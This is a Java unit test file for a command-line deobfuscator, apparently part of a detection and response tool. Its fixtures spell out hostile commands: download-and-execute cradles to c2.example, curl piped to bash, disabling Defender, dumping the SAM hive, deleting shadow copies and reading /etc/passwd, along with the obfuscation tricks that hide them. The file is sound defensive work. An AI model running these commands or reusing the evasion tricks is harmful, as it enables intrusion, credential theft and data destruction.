package io.mdr4j.evidence.decoding;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.Random;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class DecodedCommandLineTest {

    private static final String CRADLE =
            "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://c2.example/a')";

    @ParameterizedTest
    @ValueSource(
            strings = {"-enc", "-e", "-ec", "-EncodedCommand", "/enc", "-eNcOd", "-EncodedC", "\u2013enc", "-enc:"})
    void an_encoded_command_is_decoded_in_place_for_every_short_form_of_the_parameter(String parameter) {
        String line = "powershell.exe -nop -w hidden " + parameter + " " + utf16(CRADLE);

        assertThat(DecodedCommandLine.of(line).plain())
                .isEqualTo("powershell.exe -nop -w hidden " + parameter + " " + CRADLE);
    }

    @Test
    void the_command_line_itself_is_the_first_form_and_each_layer_one_more() {
        String inner = "powershell -enc " + utf16(CRADLE);
        DecodedCommandLine decoded = DecodedCommandLine.of("powershell -enc " + utf16(inner));

        assertThat(decoded.forms()).hasSize(3);
        assertThat(decoded.forms().get(0)).doesNotContain("DownloadString");
        assertThat(decoded.forms().get(1)).contains(inner);
        assertThat(decoded.plain()).contains(CRADLE);
        assertThat(decoded.isBounded()).isFalse();
    }

    @Test
    void text_that_hides_nothing_has_one_form() {
        String line = "\"C:\\Program Files\\Vendor\\agent.exe\" --config C:\\ProgramData\\Vendor\\agent.json /quiet";

        assertThat(DecodedCommandLine.of(line).forms()).containsExactly(line);
    }

    @Test
    void a_hash_and_a_binary_blob_are_not_taken_for_text() {
        String line = "tool.exe /sha256 " + "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
                + " /key " + Base64.getEncoder().encodeToString(random(48));

        assertThat(DecodedCommandLine.of(line).forms()).containsExactly(line);
    }

    @Test
    void nesting_beyond_the_bound_is_said() {
        String line = CRADLE;
        for (int i = 0; i < 8; i++) {
            line = "powershell -e " + utf16(line);
        }

        DecodedCommandLine decoded = DecodedCommandLine.of(line);

        assertThat(decoded.forms()).hasSizeLessThanOrEqualTo(DecodedCommandLine.DEEPEST + 2);
        assertThat(decoded.isBounded()).isTrue();
    }

    @Test
    void base64_elsewhere_in_a_script_is_decoded_plain_or_compressed() {
        assertThat(plain("[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('" + utf8(CRADLE) + "'))"))
                .contains(CRADLE);
        assertThat(plain("echo " + utf8("curl -s http://c2.example/x.sh | bash") + " | base64 -d | sh"))
                .contains("curl -s http://c2.example/x.sh | bash");
        assertThat(plain("$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String(\"" + gzip(CRADLE) + "\"))"))
                .contains(CRADLE);
    }

    @Test
    void carets_and_empty_quotes_are_taken_out() {
        assertThat(plain("cmd /c p^o^w^e^r^s^h^e^l^l -w h^i^d^d^e^n")).isEqualTo("cmd /c powershell -w hidden");
        assertThat(plain("cmd /c who\"\"ami & c''at")).isEqualTo("cmd /c whoami & cat");
    }

    @Test
    void words_that_quotes_divide_are_put_together_and_an_apostrophe_stays() {
        assertThat(plain("cmd /c r\"e\"g s\"av\"e hk\"l\"m\\s\"a\"m C:\\1.bin"))
                .isEqualTo("cmd /c reg save hklm\\sam C:\\1.bin");
        assertThat(plain("msg * Don't switch off")).isEqualTo("msg * Don't switch off");
        assertThat(plain("copy \"C:\\a b\" \"D:\\c d\"")).isEqualTo("copy \"C:\\a b\" \"D:\\c d\"");
    }

    @Test
    void short_names_of_powershell_are_written_out_where_a_command_stands() {
        assertThat(plain("powershell -nop -c \"spsv WinDefend -fo;sp $k sp 1\""))
                .isEqualTo("powershell -nop -c \"Stop-Service WinDefend -fo;Set-ItemProperty $k sp 1\"");
        assertThat(plain("powershell -c irm x.example|iex"))
                .isEqualTo("powershell -c Invoke-RestMethod x.example|Invoke-Expression");
        assertThat(plain("notepad.exe ;iex a")).isEqualTo("notepad.exe ;iex a");
    }

    @Test
    void commands_that_are_looked_up_by_a_pattern_are_named() {
        assertThat(plain("powershell -w 1 -c .(gcm i?x)(.(gcm i?r) 203.0.113.9/l)"))
                .contains("Invoke-Expression", "Invoke-WebRequest", "203.0.113.9/l");
        assertThat(plain("powershell -c &(gcm *-Ex*ion) $a")).contains("Invoke-Expression");
        assertThat(PowerShellNames.matches("*".repeat(40), "Invoke-Expression")).isTrue();
        assertThat(PowerShellNames.matches("*a".repeat(20), "Invoke-Expression"))
                .isFalse();
    }

    @Test
    void texts_in_variables_are_put_where_they_are_used() {
        assertThat(plain("powershell -c \"$k='HKLM:\\SOFT'+'WARE\\Policies';Set-ItemProperty $k x 1\""))
                .contains("Set-ItemProperty HKLM:\\SOFTWARE\\Policies x 1");
        assertThat(plain("powershell -c \"$a=Get-Date;$a\"")).isEqualTo("powershell -c \"$a=Get-Date;$a\"");
    }

    @Test
    void variables_of_cmd_are_put_in() {
        assertThat(plain("cmd /V:ON /C \"set a=vssadmin&&set b=delete shadows&&call %a% %b% /all\""))
                .contains("call vssadmin delete shadows /all");
        assertThat(plain("cmd /v /c \"set x=whoXami&&!x:X=!\"")).contains("whoami");
        assertThat(plain("%COMSPEC:~-7% /c ver")).startsWith("cmd.exe /c ver");
        assertThat(plain("%COMSPEC% /c ver")).isEqualTo("%COMSPEC% /c ver");
    }

    @Test
    void texts_in_pieces_are_joined() {
        assertThat(plain("$w.('Down'+'load'+'String')")).contains("DownloadString");
        assertThat(plain("& (\"{1}{0}\" -f 'X','IE') $a")).contains("'IEX'");
        assertThat(plain("q`a`x $a; sh -c 'cat${IFS}/etc/passwd'"))
                .contains("qax $a")
                .contains("cat /etc/passwd");
    }

    @Test
    void numbers_become_characters() {
        assertThat(plain("&([char]73+[char]0x45+[char](88)) $a")).contains("'IEX'");
        assertThat(plain("-join [char[]](73, 69, 88)")).contains("'IEX'");
        assertThat(plain("eval(String.fromCharCode(87,83,104))")).contains("'WSh'");
        assertThat(plain("Execute Chr(87)&Chr(83)")).contains("'WS'");
    }

    @Test
    void hexadecimal_and_percent_escapes_are_undone() {
        assertThat(plain("printf '\\x77\\x68\\x6f\\x61\\x6d\\x69'")).contains("whoami");
        assertThat(plain("mshta javascript:%65%76%61%6c(1)")).contains("javascript:eval(1)");
        assertThat(plain("curl http://a.example/?q=%E6%97%A5")).contains("日");
        assertThat(plain("curl http://a.example/?q=a%20b")).contains("a%20b");
        assertThat(plain("xxd -r -p " + hex("curl http://c2.example/payload")))
                .contains("curl http://c2.example/payload");
    }

    @Test
    void what_powershell_is_given_inline_is_a_script() {
        assertThat(DecodedCommandLine.of("powershell -nop -enc " + utf16(CRADLE))
                        .scripts())
                .containsExactly(CRADLE);
        assertThat(DecodedCommandLine.of("pwsh.exe -Command \"Get-Date\"").scripts())
                .containsExactly("\"Get-Date\"");
        assertThat(DecodedCommandLine.of("powershell.exe -File C:\\scripts\\inventory.ps1")
                        .scripts())
                .isEmpty();
    }

    @Test
    void the_commands_of_a_shell_are_told_apart() {
        assertThat(DecodedCommandLine.of(
                                "C:\\Windows\\system32\\cmd.exe /c \"whoami & net user /domain && echo \"a & b\"\"")
                        .commands())
                .contains("whoami", "net user /domain");
        assertThat(DecodedCommandLine.of("bash -c 'id; uname -a | tee /tmp/x 2>&1'")
                        .commands())
                .containsExactly("id", "uname -a", "tee /tmp/x 2>&1");
        assertThat(DecodedCommandLine.of("cmd /c powershell -c whoami; hostname")
                        .commands())
                .contains("whoami", "hostname");
        assertThat(DecodedCommandLine.of("notepad.exe a;b.txt").commands()).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "%",
                "'",
                "\"",
                "^",
                "0x41,",
                "\\x41",
                "%41",
                "[char]65+",
                "chr(65)&",
                "cmd /a ",
                " ",
                "-e ",
                "A",
                "4",
                "set a=",
                "%a:~1,2%",
                "{0}",
                "'+'",
                "sh -c -c "
            })
    void endless_repetition_is_worked_off(String piece) {
        String line = "cmd /c powershell -e " + piece.repeat(400_000 / piece.length());

        assertThat(DecodedCommandLine.of(line).forms()).isNotEmpty();
    }

    @Test
    void random_text_never_throws() {
        Random random = new Random(7);
        String alphabet = "powershell -enc cmd/c^%\"'`{}()[]+&|;\\x0123456789abcdefABCDEF=,!~:$ \u2013日本";
        for (int i = 0; i < 20_000; i++) {
            StringBuilder line = new StringBuilder();
            for (int n = random.nextInt(120); n > 0; n--) {
                line.append(alphabet.charAt(random.nextInt(alphabet.length())));
            }
            assertThat(DecodedCommandLine.of(line.toString()).forms()).startsWith(line.toString());
        }
    }

    private static String plain(String line) {
        return DecodedCommandLine.of(line).plain();
    }

    private static String utf16(String text) {
        return base64(text, StandardCharsets.UTF_16LE);
    }

    private static String utf8(String text) {
        return base64(text, StandardCharsets.UTF_8);
    }

    private static String base64(String text, Charset charset) {
        return Base64.getEncoder().encodeToString(text.getBytes(charset));
    }

    private static String hex(String text) {
        return java.util.HexFormat.of().formatHex(text.getBytes(StandardCharsets.UTF_8));
    }

    private static String gzip(String text) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (GZIPOutputStream out = new GZIPOutputStream(bytes)) {
            out.write(text.getBytes(StandardCharsets.UTF_8));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return Base64.getEncoder().encodeToString(bytes.toByteArray());
    }

    private static byte[] random(int length) {
        byte[] bytes = new byte[length];
        new Random(3).nextBytes(bytes);
        return bytes;
    }
}
